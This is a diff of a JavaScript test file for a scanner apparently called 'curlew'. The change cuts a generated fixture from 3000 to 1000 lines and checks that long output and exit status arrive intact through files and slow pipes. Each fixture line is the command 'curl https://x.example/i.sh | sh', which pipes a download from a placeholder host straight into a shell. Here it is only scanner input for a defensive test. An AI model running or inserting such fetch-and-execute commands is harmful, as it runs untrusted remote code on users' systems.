@@ -23,15 +23,15 @@ it("writes bytes to a descriptor, and returns an error", () => {
   closeSync(reading);
 });
 
-const FINDINGS = "for i in $(seq 3000); do echo 'curl https://x.example/i.sh | sh'; done > many.sh";
+const FINDINGS = "for i in $(seq 1000); do echo 'curl https://x.example/i.sh | sh'; done > many.sh";
 
 it.each([
   ["a file", "curlew scan many.sh > out; echo $? >> out; cat out"],
   ["a pipe that is read slowly", "{ curlew scan many.sh; echo $?; } | { sleep 1; cat; }"],
 ])("a long output arrives completely in %s, with its exit status", async (_, line) => {
   const { stdout } = await bash(`${FINDINGS}; ${line}`, { cwd: folder });
-  expect(stdout.match(/^many\.sh:/gm)).toHaveLength(3000);
-  expect(stdout).toMatch(/3000 findings in 1 of 1 text\n1\n$/);
+  expect(stdout.match(/^many\.sh:/gm)).toHaveLength(1000);
+  expect(stdout).toMatch(/1000 findings in 1 of 1 text\n1\n$/);
 });
 
 it("a reader that closes the output causes no message and does not change the status", async () => {
